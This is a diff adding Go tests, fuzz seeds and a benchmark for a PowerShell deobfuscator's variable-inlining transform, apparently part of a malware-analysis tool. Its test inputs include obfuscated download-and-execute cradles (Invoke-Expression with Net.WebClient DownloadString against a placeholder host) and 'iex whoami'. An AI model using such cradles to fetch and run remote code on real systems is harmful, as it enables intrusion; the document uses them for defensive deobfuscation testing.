@@ -1,0 +1,25 @@
+package deobfuscate
+
+import "testing"
+
+func TestPSVariables(t *testing.T) {
+	runTransformTable(t, PSVariables, []transformCase{
+		{"code uses", `$a='Down';$b='loadString';$w.($a+$b)('http://x')`, `$a='Down';$b='loadString';$w.('Down'+'loadString')('http://x')`, true},
+		{"interpolation and braces", `$u="http://x/a";iex "(New-Object Net.WebClient).DownloadString('${u}')"`,
+			`$u="http://x/a";iex "(New-Object Net.WebClient).DownloadString('http://x/a')"`, true},
+		{"case-insensitive names", `$Cmd = 'whoami'; iex $CMD`, `$Cmd = 'whoami'; iex 'whoami'`, true},
+		{"reassignment by expression stops", `$a='x'; $a = Get-Date; $a`, `$a='x'; $a = Get-Date; $a`, false},
+		{"+= stops", `$a='x'; $a += 'y'; $a`, `$a='x'; $a += 'y'; $a`, false},
+		{"use before assignment", `iex $a; $a='x'`, `iex $a; $a='x'`, false},
+		{"single-quoted strings are literal", `$a='x'; '$a'`, `$a='x'; '$a'`, false},
+		{"scoped variables", `$env:a='x'; $env:a`, `$env:a='x'; $env:a`, false},
+	})
+}
+
+func FuzzPSVariables(f *testing.F) {
+	fuzzTransform(f, PSVariables, `$a='x';"$a$a"`, `${a}='b';${a}`, `$a=`)
+}
+
+func BenchmarkPSVariables(b *testing.B) {
+	benchTransform(b, PSVariables, `$a='Down';$b='loadString';$u='http://x/a';(New-Object Net.WebClient).($a+$b)("$u")`)
+}
